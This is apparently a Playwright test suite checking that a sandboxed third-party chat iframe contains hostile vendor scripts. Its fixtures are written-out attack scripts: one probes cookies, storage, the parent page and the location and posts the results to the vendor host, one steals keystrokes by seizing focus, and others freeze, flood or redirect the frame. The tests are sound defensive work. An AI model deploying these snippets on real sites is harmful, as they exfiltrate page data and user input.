import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import {
	chatFrames,
	chatHost,
	chatIcon,
	chatInside,
	draw,
	notify,
	unread,
	withChat,
} from "../support/browser/chat.ts";
import { message } from "../support/browser/messages.ts";
import { openPage } from "../support/browser/openPage.ts";
import { searchField } from "../support/browser/searchField.ts";
import { setupSite } from "../support/site/startSite.ts";
import { startVendor } from "../support/site/startVendor.ts";

// Browsers report what the policy blocked, and the server logs it.
const site = setupSite({ allowErrors: true });
const en = (key: string) => message("en", key);

/** What a hostile script can read; each line is sent to its server. */
const probe = `
const home = new URL(document.getElementById("vendor").src).origin;
const found = {};
const look = (name, what) => { try { found[name] = String(what()); } catch (error) { found[name] = error.name; } };
look("origin", () => self.origin);
look("cookie", () => { document.cookie = "mine=1"; return document.cookie; });
look("real cookie", () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document));
look("storage", () => { const frame = document.createElement("iframe"); document.body.append(frame); return frame.contentWindow.localStorage.length; });
look("page", () => parent.document.body.innerText);
look("address", () => parent.location.href);
look("referrer", () => document.referrer);
look("databases", () => { indexedDB.open("x"); return "open"; });
look("popup", () => open(home + "/popup"));
look("dialogs", () => { for (let i = 0; i < 50; i++) { alert(i); confirm(i); } return prompt("x"); });
look("top", () => { top.location = home + "/top"; return "asked"; });
look("form", () => { const form = document.createElement("form"); form.action = "/s/api/x"; form.method = "post"; form.target = "_top"; document.body.append(form); form.submit(); return "sent"; });
fetch("/s/api/external/api/v1/company/getBaseInfo", { credentials: "include" }).then(() => "read", (error) => error.name).then((how) => {
	found.call = how;
	fetch(home + "/report", { method: "POST", body: JSON.stringify(found) });
});
`;
const noise = [
	/sandbox/i,
	/Content Security Policy/i,
	/Unsafe attempt/i,
	/Blocked/i,
	/Ignored call to/i,
	/Refused/i,
	/Framing/i,
	/Fetch API cannot load/i,
];

/**
 * A click that is answered proves the page is alive, a frozen page never answers. No time limit: a frame in an
 * endless loop uses up a whole core.
 */
async function isAlive(page: Page): Promise<void> {
	const banner = page.getByRole("banner");
	await banner.getByRole("button", { name: /中文/ }).click();
	await banner.getByRole("button", { name: /English|EN/ }).waitFor();
}

describe("a hostile script", () => {
	it("reads nothing of the page, opens no window and cannot navigate", async () => {
		const vendor = await startVendor({ "/probe.js": probe });
		await withChat(site(), `${vendor.origin}/probe.js`);
		const page = await openPage(site(), chatHost, { language: "en", allow: noise });
		await expect.poll(() => vendor.reports).toHaveLength(1);
		expect(JSON.parse(vendor.reports[0] ?? "{}")).toMatchInlineSnapshot(`
			{
			  "address": "SecurityError",
			  "call": "TypeError",
			  "cookie": "mine=1",
			  "databases": "SecurityError",
			  "dialogs": "null",
			  "form": "sent",
			  "origin": "null",
			  "page": "SecurityError",
			  "popup": "null",
			  "real cookie": "SecurityError",
			  "referrer": "",
			  "storage": "SecurityError",
			  "top": "SecurityError",
			}
		`);
		expect(vendor.headersOf("/probe.js")).not.toHaveProperty("referer");
		expect(vendor.headersOf("/probe.js")).not.toHaveProperty("cookie");
		expect(vendor.asked.filter((path) => ["/popup", "/top"].includes(path))).toEqual([]);
		expect(page.context().pages()).toHaveLength(1);
		expect(page.url()).toContain(`${chatHost}:${site().port}/s/pc/`);
		await isAlive(page);
	});

	it("in an endless loop does not freeze the page", async () => {
		// The last message is sent right before the endless loop: from then on the frame handles no event.
		const vendor = await startVendor({
			"/freeze.js": `${notify({ word: "unread", unread: 1 })}
				const home = (path) => new URL(path, document.getElementById("vendor").src).href;
				fetch(home("/begin")).then(() => {
					const last = new XMLHttpRequest();
					last.open("POST", home("/report"), false);
					last.send();
					while (true);
				});`,
		});
		await withChat(site(), `${vendor.origin}/freeze.js`);
		const page = await openPage(site(), chatHost, { language: "en", allow: noise });
		await unread(page).waitFor({ state: "attached" });
		await expect.poll(() => vendor.reports).toHaveLength(1);
		await page.evaluate(
			() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))),
		);
		let answered = false;
		const frame = page.frames().find((each) => each.url().includes("/s/frame/chat"));
		frame
			?.evaluate(() => 1)
			.then(
				() => {
					answered = true;
				},
				(error: unknown) => console.info("the frozen frame was closed with its page", error),
			);
		await isAlive(page);
		expect(frame).toBeDefined();
		expect(answered).toBe(false);
	});

	it("that floods the page with messages is removed", async () => {
		const vendor = await startVendor({
			"/flood.js": `const again = () => { for (let i = 0; i < 5000; i++) ${notify({ word: "unread", unread: 1 })} setTimeout(again); }; again();`,
		});
		await withChat(site(), `${vendor.origin}/flood.js`);
		const page = await openPage(site(), chatHost, { language: "en", allow: noise });
		await unread(page).waitFor({ state: "attached" });
		await expect.poll(() => chatFrames(page).count()).toBe(0);
		await isAlive(page);
	});

	const grab = `const field = document.createElement("input"); document.body.append(field);
		const home = new URL("/report", document.getElementById("vendor").src);
		field.oninput = () => fetch(home, { method: "POST", body: field.value });
		setInterval(() => { window.focus(); field.focus(); }, 20);`;

	it.each([
		["before the student opened it", false],
		["while its panel is open", true],
	])("that takes the focus from a field %s is removed", async (_, asked) => {
		const vendor = await startVendor({
			"/grab.js": asked ? `onmessage = () => { onmessage = null; ${grab} };${draw}` : grab,
		});
		await withChat(site(), `${vendor.origin}/grab.js`);
		const page = await openPage(site(), chatHost, { language: "en", hash: "/course/list", allow: noise });
		const field = searchField(page, en("course.searchList"));
		await field.waitFor();
		await expect.poll(() => vendor.asked).toContain("/grab.js");
		if (asked) {
			await chatIcon(page).click();
			await chatInside(page).getByText("drawn").waitFor();
		}
		await field.click();
		// A key may arrive before the page handles the first focus change; how many do depends on the machine.
		const clicked = page.keyboard.press("m").catch((error: Error) => console.info("the key", error.message));
		const gone = expect.poll(() => chatFrames(page).count()).toBe(0);
		// A key sent to a frame that is being removed may never resolve.
		await Promise.race([clicked, gone]);
		await gone;
		await field.fill("");
		await page.keyboard.type("my secret name", { delay: 20 });
		expect(await field.inputValue()).toBe("my secret name");
		expect(vendor.reports.join("").length).toBeLessThanOrEqual(1);
	});

	it("cannot navigate its frame or send messages outside the protocol", async () => {
		const vendor = await startVendor({
			"/leave.js": `${draw}${notify({ word: "redirect", to: "/x" })}${notify({ word: "height", height: "tall" })}
				setTimeout(() => { location.href = new URL("/elsewhere", document.getElementById("vendor").src).href; }, 100);`,
		});
		await withChat(site(), `${vendor.origin}/leave.js`);
		const output: string[] = [];
		const page = await openPage(site(), chatHost, {
			language: "en",
			allow: noise,
			prepare: async (context) => void context.on("console", (message) => output.push(message.text())),
		});
		await expect.poll(() => vendor.asked).toContain("/leave.js");
		await chatIcon(page).click();
		// The frame tried, and was blocked.
		await expect.poll(() => output.join("\n")).toMatch(`Framing '${vendor.origin}`);
		await isAlive(page);
		expect(vendor.asked).not.toContain("/elsewhere");
	});
});
